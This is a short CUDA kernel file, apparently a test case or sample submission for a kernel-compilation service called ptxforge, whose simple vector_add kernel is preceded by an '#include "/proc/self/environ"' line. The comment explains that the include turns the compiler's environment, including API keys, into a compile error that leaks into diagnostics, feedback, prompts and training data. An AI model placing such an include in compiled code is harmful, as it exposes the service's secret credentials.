// Reads the compiling process's environment (API keys of `ptxforge compile`) through the
// preprocessor: the text of /proc/self/environ becomes a compile error whose quoted line would
// carry it into the diagnostics, the feedback, the next prompt and training data.
// @launch grid=(ceil_div(n, 256), 1, 1) block=(256, 1, 1)
#include "/proc/self/environ"
extern "C" __global__ void vector_add(const float* a, const float* b, float* c, unsigned n) {
  unsigned i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];
}
